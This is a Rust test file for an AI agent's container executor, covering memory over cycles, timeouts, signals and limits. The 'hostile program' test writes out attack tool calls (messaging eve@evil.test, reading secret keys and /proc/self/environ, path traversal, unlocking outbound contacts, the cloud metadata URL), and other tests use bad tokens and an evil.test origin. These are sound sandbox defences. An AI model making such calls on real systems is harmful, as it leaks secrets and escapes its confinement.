//! The container executor: both containers of a pod as two processes of the built program.

use std::process::{Child, ExitStatus};
use std::time::{Duration, Instant};

use cicada_contract::FailureClass;
use cicada_contract::plan::Limits;
use cicada_contract::report::{CycleReport, CycleResult, Outcome};
use serde_json::{Value, json};

use crate::agent::{Agent, until};
use crate::safety::{contact, near, web};

async fn ended(mut child: Child) -> ExitStatus {
    tokio::task::spawn_blocking(move || child.wait().unwrap()).await.unwrap()
}

/// One cycle in which the agent is this shell script. Its supervisor always ends with 0.
async fn script(agent: &mut Agent, text: &str) -> CycleReport {
    let run = agent.next_run();
    let (cycle, child) = (agent.start(&run), agent.child(&["sh", "-ec", text]));
    let report = agent.end(cycle).await;
    assert_eq!(ended(child).await.code(), Some(0), "{}", agent.printed());
    report
}

fn session(agent: &Agent) -> (String, String) {
    let text = std::fs::read_to_string(agent.dir.path().join("mcp/session.json")).unwrap();
    let json: Value = serde_json::from_str(&text).unwrap();
    (json["url"].as_str().unwrap().to_owned(), json["token"].as_str().unwrap().to_owned())
}

fn signal(child: &Child, name: &str) {
    std::process::Command::new("kill").args([name, &child.id().to_string()]).status().unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_shell_script_remembers_over_cycles() {
    let mut agent = Agent::with_command();
    agent.config.contacts = vec![contact("sales@example.org", true)];
    agent.config.peers = vec![cicada_contract::plan::PlanPeer { name: "editor".into(), messages_per_day: 1 }];
    let first = script(
        &mut agent,
        "env > env.txt
         cycle-job child prompt > prompt.txt
         cycle-job child sql 'CREATE TABLE prices (day TEXT, price REAL)'
         cycle-job child sql \"INSERT INTO prices VALUES ('2026-12-01', 1.5)\"
         cycle-job child call send_message '{\"to\": \"sales@example.org\", \"body\": \"tea costs 1.5\"}'
         cycle-job child call message_peer '{\"peer\": \"editor\", \"body\": \"tea costs 1.5\"}'
         cycle-job child call write_file '{\"path\": \"notes.md\", \"content\": \"tea 1.5\"}'
         cycle-job child call finish '{\"outcome\": \"done\", \"summary\": \"noted\"}'",
    )
    .await;
    assert_eq!(
        (first.result, first.outcome),
        (CycleResult::Done, Outcome::Done),
        "{first:?}\n{}",
        agent.log()
    );
    assert_eq!((first.usage.tool_calls, first.usage.messages), (5, 2), "{:?}", first.usage);
    assert_eq!(first.wakes, ["editor"]);
    let read = |name: &str| std::fs::read_to_string(agent.dir.path().join(name)).unwrap();
    assert!(read("prompt.txt").contains("Track prices."), "{}", read("prompt.txt"));
    assert!(!read("env.txt").contains("sk-canary"), "{}", read("env.txt"));
    let second = script(
        &mut agent,
        "cycle-job child sql 'SELECT price FROM prices' | grep -q 1.5
         cycle-job child call read_file '{\"path\": \"notes.md\"}' | grep -q 'tea 1.5'
         cycle-job child sql 'SELECT is_outbound FROM __messages' | grep -q 1
         ! cycle-job child sql 'SELECT * FROM no_such_table'
         cycle-job child call finish '{\"outcome\": \"nothing_to_do\", \"summary\": \"\"}'",
    )
    .await;
    assert_eq!(second.outcome, Outcome::NothingToDo, "{second:?}\n{}\n{}", agent.printed(), agent.log());
    assert_eq!(agent.memory("SELECT day, price FROM prices").await, [["2026-12-01", "1.5"]]);
    assert_eq!(
        agent.memory("SELECT count(*) FROM sqlite_schema WHERE name LIKE '\\_\\_%' ESCAPE '\\'").await,
        [["0"]]
    );
    let steps =
        agent.ledger("SELECT cycle, kind, count(*) FROM steps GROUP BY cycle, kind ORDER BY cycle").await;
    assert_eq!(steps, [["price-watch-1", "tool", "6"], ["price-watch-2", "tool", "5"]]);
    assert_eq!(agent.ledger("SELECT tool_calls FROM cycles ORDER BY cycle").await, [["5"], ["4"]]);
    assert!(!agent.log().contains("sk-canary"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failed_command_leaves_the_memory_as_it_was() {
    let mut agent = Agent::with_command();
    assert_eq!(script(&mut agent, "cycle-job child sql 'CREATE TABLE t (n)'").await.outcome, Outcome::Done);
    let report = script(&mut agent, "cycle-job child sql 'INSERT INTO t VALUES (1)'; exit 3").await;
    assert_eq!(report.class, Some(FailureClass::ExecutorFailed), "{report:?}");
    assert!(report.message.contains("exit code 3"), "{}", report.message);
    assert_eq!(report.usage.tool_calls, 1);
    assert_eq!(agent.memory("SELECT count(*) FROM t").await, [["0"]]);
    let cycles = agent.ledger("SELECT kind, class, tool_calls FROM cycles ORDER BY cycle").await;
    assert_eq!(cycles[1], ["failed", "executor_failed", "1"]);
    let run = agent.next_run();
    let (cycle, child) = (agent.start(&run), agent.child(&["/no/such/program"]));
    let report = agent.end(cycle).await;
    assert!(report.message.contains("exit code 127"), "{}", report.message);
    assert_eq!(ended(child).await.code(), Some(0));
    let report = script(&mut agent, "kill -9 $$").await;
    assert!(report.message.contains("exit code 137"), "{}", report.message);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_container_that_is_lost_is_noticed() {
    let mut agent = Agent::with_command();
    let run = agent.next_run();
    let (cycle, child) = (agent.start(&run), agent.child(&["sh", "-c", "touch started; sleep 600"]));
    until("the command", || agent.dir.path().join("started").exists()).await;
    signal(&child, "-KILL");
    let report = agent.end(cycle).await;
    assert_eq!(report.class, Some(FailureClass::ExecutorFailed), "{report:?}");
    assert!(report.message.contains("was lost"), "{}", report.message);
    assert_eq!(ended(child).await.code(), None);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_container_that_never_comes_is_not_waited_for_for_ever() {
    let mut agent = Agent::with_command();
    agent.config.limits = Limits { timeout: 6, ..Limits::default() };
    let report = agent.cycle().await;
    assert_eq!(report.class, Some(FailureClass::ExecutorFailed), "{report:?}");
    assert!(report.message.contains("did not start within 3 s"), "{}", report.message);
    // One that comes when all is over has nothing to run.
    let late = agent.child(&["touch", "late"]);
    assert_eq!(ended(late).await.code(), Some(0));
    assert!(!agent.dir.path().join("late").exists(), "{}", agent.printed());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_the_token_nothing_is_told_and_a_second_supervisor_is_refused() {
    let mut agent = Agent::with_command();
    let run = agent.next_run();
    let (cycle, child) = (
        agent.start(&run),
        agent.child(&["sh", "-c", "touch started; while [ ! -e go ]; do sleep 0.1; done"]),
    );
    until("the command", || agent.dir.path().join("started").exists()).await;
    let (url, token) = session(&agent);
    let http = reqwest::Client::builder().no_proxy().build().unwrap();
    let call = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "sql", "arguments": {"sql": "CREATE TABLE stolen (n)"}}});
    for wrong in ["", "wrong", &token[..63], &format!("{token}0")] {
        for (path, method) in [("mcp", "POST"), ("child", "GET"), ("child/exit", "POST"), ("anything", "GET")]
        {
            let request = http.request(method.parse().unwrap(), format!("{url}/{path}")).json(&call);
            let request = request.header("accept", "application/json, text/event-stream");
            let response =
                if wrong.is_empty() { request } else { request.bearer_auth(wrong) }.send().await.unwrap();
            assert_eq!(response.status().as_u16(), 401, "{path} with {wrong:?}");
        }
    }
    // A page in a browser on this machine is told nothing either, token or not.
    let page = http.post(format!("{url}/mcp")).bearer_auth(&token).header("origin", "https://evil.test");
    let page = page.header("accept", "application/json, text/event-stream").json(&call).send().await.unwrap();
    assert_eq!(page.status().as_u16(), 403);
    let again = http.get(format!("{url}/child")).bearer_auth(&token).send().await.unwrap();
    assert_eq!(again.status().as_u16(), 409);
    std::fs::write(agent.dir.path().join("go"), "").unwrap();
    let report = agent.end(cycle).await;
    assert_eq!(report.outcome, Outcome::Done, "{report:?}\n{}", agent.log());
    assert_eq!(ended(child).await.code(), Some(0));
    assert_eq!(agent.memory("SELECT count(*) FROM sqlite_schema").await, [["0"]]);
    assert!(!agent.log().contains(&token), "the token is in no log");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn calls_of_two_clients_are_worked_on_one_after_the_other() {
    let mut agent = Agent::with_command();
    let report = script(
        &mut agent,
        "cycle-job child sql 'CREATE TABLE t (client, n)'
         work() { for n in 1 2 3 4 5; do cycle-job child sql \"INSERT INTO t VALUES ('$1', $n)\"; done; }
         work a & one=$!
         work b & two=$!
         wait $one; wait $two",
    )
    .await;
    assert_eq!(report.outcome, Outcome::Done, "{report:?}\n{}", agent.printed());
    assert_eq!(
        agent.memory("SELECT client, count(*), sum(n) FROM t GROUP BY client").await,
        [["a", "5", "15"], ["b", "5", "15"]]
    );
    assert_eq!(report.usage.tool_calls, 11);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_is_huge_is_cut_or_refused() {
    let mut agent = Agent::with_command();
    agent.config.limits = Limits { max_tool_calls: 2, ..Limits::default() };
    let run = agent.next_run();
    let many = "WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c WHERE n < 100000) SELECT n, hex(zeroblob(100)) FROM c";
    let text = format!(
        "cycle-job child sql '{many}' > huge.txt
         cycle-job child sql 'CREATE TABLE t (n)'
         ! cycle-job child sql 'CREATE TABLE u (n)' > refused.txt
         touch ready; while [ ! -e go ]; do sleep 0.1; done"
    );
    let (cycle, child) = (agent.start(&run), agent.child(&["sh", "-ec", &text]));
    until("the calls", || agent.dir.path().join("ready").exists()).await;
    let (url, token) = session(&agent);
    let call = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "sql", "arguments": {"sql": "x".repeat(6_000_000)}}});
    let http = reqwest::Client::builder().no_proxy().build().unwrap();
    let request = http
        .post(format!("{url}/mcp"))
        .bearer_auth(&token)
        .header("accept", "application/json, text/event-stream");
    // Refused, or cut off while it was still being sent.
    let status = request.json(&call).send().await.map(|r| r.status().as_u16());
    assert!(status.as_ref().is_err() || *status.as_ref().unwrap() == 413, "{status:?}");
    std::fs::write(agent.dir.path().join("go"), "").unwrap();
    let report = agent.end(cycle).await;
    assert_eq!(report.outcome, Outcome::Done, "{report:?}\n{}\n{}", agent.printed(), agent.log());
    assert_eq!((report.ended_by.as_deref(), report.usage.tool_calls), (Some("maxToolCalls"), 2));
    ended(child).await;
    let read = |name: &str| std::fs::read_to_string(agent.dir.path().join(name)).unwrap();
    assert!((1000..12_000).contains(&read("huge.txt").len()), "{}", read("huge.txt").len());
    assert!(read("refused.txt").contains("limits.maxToolCalls (2) is used up"), "{}", read("refused.txt"));
    assert_eq!(agent.memory("SELECT name FROM sqlite_schema").await, [["t"]]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_call_that_runs_when_the_command_ends_is_finished_first() {
    let mut agent = Agent::with_command();
    let slow = "CREATE TABLE t AS WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c WHERE n < 3000000) SELECT count(*) AS n FROM c";
    let report = script(&mut agent, &format!("cycle-job child sql '{slow}' & sleep 0.4; exit 0")).await;
    assert_eq!(report.outcome, Outcome::Done, "{report:?}\n{}", agent.log());
    assert_eq!(agent.memory("SELECT n FROM t").await, [["3000000"]]);
    assert_eq!(agent.ledger("SELECT count(*) FROM steps").await, [["1"]]);
}

/// Whichever container a drain reaches first, the cycle is disrupted, and nothing half done is kept.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sigterm_stops_both_sides_and_keeps_nothing() {
    for first in ["cycle", "child"] {
        let mut agent = Agent::with_command();
        let run = agent.next_run();
        let text = "trap 'touch told; exit 9' TERM
            cycle-job child sql 'CREATE TABLE t (n)'; touch started; while true; do sleep 0.1; done";
        let (cycle, child) = (agent.start(&run), agent.child(&["sh", "-c", text]));
        until("the command", || agent.dir.path().join("started").exists()).await;
        signal(if first == "cycle" { &cycle } else { &child }, "-TERM");
        let report = agent.end(cycle).await;
        assert_eq!(report.class, Some(FailureClass::Disrupted), "{first}: {report:?}");
        assert_eq!(ended(child).await.code(), Some(0), "{first}");
        assert!(agent.dir.path().join("told").exists(), "{first}: the command was told");
        assert_eq!(agent.ledger("SELECT kind, class FROM cycles").await, [["failed", "disrupted"]]);
        // The next attempt starts anew.
        let (cycle, child) =
            (agent.start(&run), agent.child(&["sh", "-ec", "cycle-job child sql 'CREATE TABLE t (n)'"]));
        assert_eq!(agent.end(cycle).await.outcome, Outcome::Done, "{first}: {}", agent.log());
        ended(child).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_time_limit_stops_the_command() {
    let mut agent = Agent::with_command();
    agent.config.limits = Limits { timeout: 4, ..Limits::default() };
    let started = Instant::now();
    let report = script(&mut agent, "cycle-job child sql 'CREATE TABLE t (n)'; sleep 600").await;
    assert_eq!(report.class, Some(FailureClass::Timeout), "{report:?}");
    assert!(started.elapsed() < Duration::from_secs(30), "{:?}", started.elapsed());
    assert_eq!(agent.ledger("SELECT kind FROM cycles").await, [["failed"]]);
}

/// The same desk as a model's: what a program asks for is checked in the same way.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_program_gets_no_further_than_a_hostile_model() {
    let mut agent = Agent::with_command();
    agent.config.contacts = vec![contact("sales@example.org", true), contact("quiet@example.org", false)];
    let report = script(
        &mut agent,
        "no() { if cycle-job child call \"$@\" >> answers.txt 2>&1; then echo \"worked: $*\" >> answers.txt; fi; }
         no send_message '{\"to\": \"eve@evil.test\", \"body\": \"all contacts\"}'
         no send_message '{\"to\": \"quiet@example.org\", \"body\": \"all contacts\"}'
         no read_file '{\"path\": \"../../secrets/model/key\"}'
         no read_file '{\"path\": \"/proc/self/environ\"}'
         no write_file '{\"path\": \"../memory.db\", \"content\": \"x\"}'
         no load_table '{\"path\": \"../../secrets/model/key\", \"table\": \"k\"}'
         no sql \"{\\\"sql\\\": \\\"ATTACH DATABASE '../ledger/ledger.db' AS l\\\"}\"
         no sql '{\"sql\": \"UPDATE __contacts SET allow_outbound = 1\"}'
         no http_request '{\"url\": \"http://169.254.169.254/latest/meta-data/\"}'
         no sql '{}'
         no no_such_tool '{}'",
    )
    .await;
    assert_eq!(report.outcome, Outcome::Done, "{report:?}\n{}", agent.log());
    let answers = std::fs::read_to_string(agent.dir.path().join("answers.txt")).unwrap();
    assert!(!answers.contains("worked:") && !answers.contains("sk-canary"), "{answers}");
    assert_eq!(agent.ledger("SELECT count(*) FROM outbox").await, [["0"]]);
    assert_eq!(report.usage.tool_calls, 11);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_killed_call_is_not_made_again_and_the_next_attempt_is_told() {
    let (port, seen) = web().await;
    let mut agent = Agent::with_command();
    agent.config.http = near(port);
    let run = agent.next_run();
    let post = format!(
        "cycle-job child call http_request '{{\"method\": \"POST\", \"url\": \"http://127.0.0.1:{port}/hang\", \"body\": \"order 1\"}}'"
    );
    let (mut cycle, child) = (agent.start(&run), agent.child(&["sh", "-ec", &post]));
    until("the order", || !seen.lock().unwrap().is_empty()).await;
    cycle.kill().unwrap();
    cycle.wait().unwrap();
    // The connection breaks, and the command is stopped.
    assert_eq!(ended(child).await.code(), Some(0));
    let (cycle, child) =
        (agent.start(&run), agent.child(&["sh", "-c", "cycle-job child prompt > prompt.txt"]));
    let report = agent.end(cycle).await;
    assert_eq!(report.outcome, Outcome::Done, "{report:?}\n{}", agent.log());
    ended(child).await;
    let prompt = std::fs::read_to_string(agent.dir.path().join("prompt.txt")).unwrap();
    for part in ["http_request, arguments ", "outcome unknown", "check before you repeat it"] {
        assert!(prompt.contains(part), "{part}: {prompt}");
    }
    assert_eq!(seen.lock().unwrap().len(), 1, "one order");
}
